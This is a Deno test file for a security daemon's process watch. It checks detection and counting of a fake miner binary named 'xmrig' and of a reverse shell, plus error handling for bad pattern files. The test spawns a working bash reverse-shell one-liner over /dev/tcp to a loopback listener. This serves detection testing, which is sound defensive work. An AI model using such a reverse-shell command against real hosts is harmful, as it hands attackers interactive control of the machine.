/**
 * The daemon's process watch, black-box, over this machine's real processes: a program named
 * like a miner, and a reverse shell on loopback (a shell whose standard input and output are a
 * TCP connection to a listener of the test) are logged once each and counted; a pattern from
 * `processWatch.patternsFile` is used like the built-in ones; a malformed patterns file turns
 * the watch off with one line naming the file and the reason, and the daemon runs on.
 */
import { assert, assertEquals, assertStringIncludes, withTempDir } from "./support/assert.ts";
import { startDaemon, type TestDaemon } from "./support/daemon.ts";
import { waitFor } from "./support/net.ts";

function count(text: string, pattern: string): number {
  const m = new RegExp(
    `^agent_process_findings_total\\{pattern="${pattern}",namespace="",pod=""\\} (\\S+)$`,
    "m",
  )
    .exec(text);
  return m ? Number(m[1]) : NaN;
}

Deno.test("the daemon's process watch logs and counts a miner and a reverse shell once", async () => {
  await withTempDir(async (dir) => {
    await Deno.copyFile("/usr/bin/sleep", `${dir}/xmrig`);
    await Deno.chmod(`${dir}/xmrig`, 0o755);
    // A name no other process on this machine has, whatever else runs beside the test.
    const sleeper = `agent-test-${crypto.randomUUID().slice(0, 8)}`;
    await Deno.copyFile("/usr/bin/sleep", `${dir}/${sleeper}`);
    await Deno.chmod(`${dir}/${sleeper}`, 0o755);
    await Deno.writeTextFile(
      `${dir}/patterns.yaml`,
      `- {name: long-sleep, kind: process, exe: '^${sleeper}$'}\n`,
    );
    using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const accepted = listener.accept();
    const spawn = (argv: string[]) =>
      new Deno.Command(argv[0]!, {
        args: argv.slice(1),
        stdin: "null",
        stdout: "null",
        stderr: "null",
      })
        .spawn();
    const miner = spawn([`${dir}/xmrig`, "120"]);
    const sleeping = spawn([`${dir}/${sleeper}`, "3600"]);
    const shell = spawn([
      "bash",
      "-c",
      `exec sh -i <>/dev/tcp/127.0.0.1/${listener.addr.port} 1>&0 2>&0`,
    ]);
    let daemon: TestDaemon | undefined;
    try {
      using _connection = await accepted;
      daemon = await startDaemon({
        dir,
        config: `kata: {enabled: false}
discovery: {kubeconfig: ${dir}/no-kubeconfig}
processWatch: {interval: 1s, patternsFile: ${dir}/patterns.yaml}`,
      });
      let text = "";
      await waitFor(
        async () => {
          text = await (await fetch(`${daemon!.base}/metrics`)).text();
          return count(text, "crypto-miner") >= 1 && count(text, "reverse-shell") >= 1 &&
            count(text, "long-sleep") >= 1;
        },
        "the findings counted",
        60_000,
      );
      // Another scan or two: each process is reported once.
      const scans = Number(/^agent_process_scans_total (\S+)$/m.exec(text)![1]);
      await waitFor(
        async () => {
          text = await (await fetch(`${daemon!.base}/metrics`)).text();
          return Number(/^agent_process_scans_total (\S+)$/m.exec(text)![1]) >= scans + 2;
        },
        "two more scans",
        30_000,
      );
      // Other processes of this machine may match the built-in patterns; ours is the only one
      // named so.
      assertEquals(count(text, "long-sleep"), 1);
      const log = await daemon.stop();
      daemon = undefined;
      const lines = log.split("\n").filter((l) => l.includes('"suspicious process"'))
        .map((l) => JSON.parse(l));
      // Another run of this test on the machine starts the same programs: only ours count.
      const miners = lines.filter((l) =>
        l.pattern === "crypto-miner" && String(l.exe).startsWith(`${dir}/`)
      );
      assertEquals(miners.map((l) => [l.pid, l.comm, l.exe]), [[
        miner.pid,
        "xmrig",
        `${dir}/xmrig`,
      ]]);
      const shells = lines.filter((l) =>
        l.pattern === "reverse-shell" && String(l.detail).includes(`:${listener.addr.port}`)
      );
      assertEquals(shells.map((l) => [l.pid, l.comm]), [[shell.pid, "sh"]]);
      assertStringIncludes(shells[0].detail, `127.0.0.1:${listener.addr.port}`);
    } finally {
      await daemon?.stop();
      for (const child of [miner, sleeping, shell]) {
        try {
          child.kill("SIGKILL");
        } catch { /* gone */ }
        await child.status;
      }
    }
  });
});

Deno.test("a malformed patterns file turns the process watch off, the daemon runs on", async () => {
  await withTempDir(async (dir) => {
    await Deno.writeTextFile(`${dir}/patterns.yaml`, "- {name: x, kind: process, comm: '('}\n");
    const daemon = await startDaemon({
      dir,
      config: `kata: {enabled: false}
discovery: {kubeconfig: ${dir}/no-kubeconfig}
processWatch: {patternsFile: ${dir}/patterns.yaml}`,
    });
    let log = "";
    try {
      await waitFor(
        () => Promise.resolve(daemon.log().includes("process watch off")),
        "the watch off",
      );
      const text = await (await fetch(`${daemon.base}/metrics`)).text();
      assertStringIncludes(text, 'agent_feature_up{feature="processes"} 0');
    } finally {
      log = await daemon.stop();
    }
    const line = JSON.parse(log.split("\n").find((l) => l.includes("process watch off"))!);
    assertEquals(
      line.reason,
      `Invalid process patterns "${dir}/patterns.yaml": 0.comm: bad regular expression: Invalid regular expression: /(/i: Unterminated group`,
    );
    assert(!log.includes("uncaught error"));
    const typo = await startDaemon({
      dir,
      config: `kata: {enabled: false}
discovery: {kubeconfig: ${dir}/no-kubeconfig}
processWatch: {disable: [crypto-minor]}`,
    });
    await waitFor(() => Promise.resolve(typo.log().includes("process watch off")), "off");
    const off = JSON.parse((await typo.stop()).split("\n").find((l) => l.includes("watch off"))!);
    assertStringIncludes(
      off.reason,
      'Invalid configuration: processWatch.disable: no built-in pattern "crypto-minor"',
    );
  });
});
